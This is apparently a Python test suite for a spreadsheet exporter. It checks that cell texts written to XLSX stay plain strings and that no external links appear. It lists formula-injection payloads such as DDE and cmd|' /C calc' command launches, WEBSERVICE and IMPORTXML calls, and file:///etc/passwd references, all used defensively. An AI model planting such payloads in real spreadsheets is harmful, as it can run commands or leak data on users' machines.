"""A text stays a text, whatever it begins with and whatever opens the workbook."""

from __future__ import annotations

import re
import tempfile
from itertools import product
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from consultation.tables.as_xlsx import write_workbook
from consultation.tables.cell_texts import MAX_CELL_UNITS, fits_a_cell
from consultation.tables.model import (
    Column,
    Heading,
    KeyValueRows,
    Kind,
    Page,
    Paragraph,
    Sheet,
    Table,
)
from consultation.words.readable import readable
from tests.cases.libreoffice import flat_xml_of, sheets_of
from tests.cases.workbook_example import column_read, example, sheet_of, written

BODIES = (
    *("1+1", "SUM(A1:A9)", "A1", "Feuille!A1", "#REF!", "0123", "é", "", "_x000D_1"),
    *('HYPERLINK("http://example.org","clic")', 'IMPORTXML("http://example.org","//a")'),
    *('WEBSERVICE("http://example.org/"&A1)', 'DDE("cmd";"/C calc";"x")'),
    *("cmd|' /C calc'!A0", "'file:///etc/passwd'#$x.A1"),
)
STARTS = (
    *("==", "=+", "=-", "-=", "@=", "=", "+", "-", "@", "'=", '"=', "{=", "＝", "＋", "－", "＠"),
    *("\u200b=", "\u00a0=", "\t=", "\r=", "\n=", " ="),
)
WHOLE = (
    *("#N/A", "#REF!", "#DIV/0!", "#NAME?", "#NULL!", "#NUM!", "#VALUE!"),
    *("http://example.org", "mailto:a@example.org", "file:///etc/passwd", "\\\\serveur\\partage"),
    *("TRUE", "VRAI", "1E5", "0012", "12/03/2022", "=", "==", "'", "''", "-", "--", "+33612345678"),
    *("_x003D_1+1", "a_x000D_b", "_x_x0041_", "_xZZZZ_", "<r><t>=1+1</t></r>", "<r></r>"),
)
# Of an escape that somebody typed, openpyxl leaves a part out; Excel and LibreOffice don't.
ESCAPED = ("_x005F_x000D_", "x005F_")
PAYLOADS = tuple(dict.fromkeys([*WHOLE, *(a + b for a, b in product(STARTS, BODIES))]))
# Only what the format cannot hold at all, and the ends of lines, may come back otherwise.
any_character = st.characters() | st.sampled_from(
    "\x00\t\n\x0b\r\x1f\x7f\x85\u2028\ud800\udfff\ufffe\uffff🦊"
)
any_text = st.text(any_character, max_size=60)
escape_like_text = st.lists(
    st.sampled_from(["_", "x", "_x", "000d", "0041_", "_x000D_", "é", "\n", " "]), max_size=12
).map("".join)


def test_payloads_in_cells_headers_sentences_and_titles_are_texts(tmp_path):
    headers = [
        Column(readable(p).replace("\n", " ") + f" {n}", Kind.TEXT) for n, p in enumerate(PAYLOADS)
    ]
    wide = Sheet("=1+1", PAYLOADS, Table("larges", tuple(headers), [PAYLOADS]))
    page = Page(
        "@SUM(1)",
        (
            *map(Heading, PAYLOADS),
            *map(Paragraph, PAYLOADS),
            KeyValueRows(tuple((p, p, None) for p in PAYLOADS), headings=("=1", "+1", "@1")),
        ),
    )
    path = written(tmp_path, wide, page)

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["=1+1", "@SUM(1)", "Notes"]
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    last = list(book.worksheets[0].iter_rows(values_only=True))[-1]
    assert list(last) == [readable(payload) for payload in PAYLOADS]


def test_nothing_links_out_of_the_workbook(tmp_path):
    path = tmp_path / "classeur.xlsx"
    write_workbook(path, example())

    with ZipFile(path) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    assert not [name for name, part in parts.items() if 'TargetMode="External"' in part]
    assert not [name for name, part in parts.items() if "<f>" in part and "/charts/" not in name]
    locations = re.findall(r'<hyperlink [^>]*location="([^"]*)"', "".join(parts.values()))
    assert set(locations) == {"'Lisez-moi'!A1", "'Questions'!A1", "'Textes'!A1", "'Notes'!A3"}


@pytest.mark.parametrize("payload", ["=1", "+1", "-1", "@1", "\t1", "'1", "＝1", "\u200b=1", "|1"])
def test_editing_a_cell_does_not_turn_its_text_into_a_formula(tmp_path, payload):
    path = written(tmp_path, sheet_of([(payload,), ("1",)], Kind.TEXT))

    sheet = openpyxl.load_workbook(path).active
    assert [sheet.cell(row, 1).quotePrefix for row in (3, 4)] == [True, False]


@given(any_text)
def test_readable_keeps_all_that_can_be_kept(text):
    cleaned = readable(text)

    assert readable(cleaned) == cleaned
    assert len(cleaned) == len(text.replace("\r\n", "\n"))
    assert not re.search("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", cleaned)
    kept = re.sub("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", "", text.replace("\r", "\n"))
    if "\r\n" not in text and "\ufffd" not in text:
        assert cleaned.replace("\ufffd", "") == kept


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(any_text | escape_like_text, min_size=1, max_size=20))
def test_any_text_comes_back_as_readable_says(texts):
    with tempfile.TemporaryDirectory() as folder:
        path = written(Path(folder), sheet_of([(text,) for text in texts], Kind.TEXT))
        read = column_read(path)

    expected = [readable(text) or None for text in texts]
    assert read + [None] * (len(expected) - len(read)) == expected


def test_a_text_of_the_greatest_length_is_kept_whole_and_a_longer_one_says_where_it_is(tmp_path):
    longest = "é" * (MAX_CELL_UNITS - 2) + "🦊"
    assert fits_a_cell(longest)
    assert not fits_a_cell(longest + "é")

    path = written(tmp_path, sheet_of([(longest,)], Kind.TEXT))
    assert column_read(path) == [longest]

    (cut,) = column_read(written(tmp_path, sheet_of([(longest + "🦊" * 9,)], Kind.TEXT)))
    assert fits_a_cell(cut)
    assert cut.startswith("éé")
    assert "é […] (coupé ici" in cut
    assert cut.endswith(
        "32\u202f775 caractères, trop pour une cellule\u00a0; en entier dans la base)"
    )


# --- LibreOffice -----------------------------------------------------------------------------


@pytest.mark.libreoffice
def test_libreoffice_reads_every_payload_as_the_text_it_is(tmp_path):
    rows = [(payload, f"fin {n}") for n, payload in enumerate((*PAYLOADS, *ESCAPED))]
    path = written(tmp_path, sheet_of(rows, Kind.TEXT, Kind.TEXT))

    read = sheets_of(path, tmp_path)["Feuille"][2:]
    assert [tuple(row) for row in read] == [(readable(a), b) for a, b in rows]
    document = flat_xml_of(path, tmp_path)
    assert "table:formula" not in document
    assert 'xlink:href="' not in document
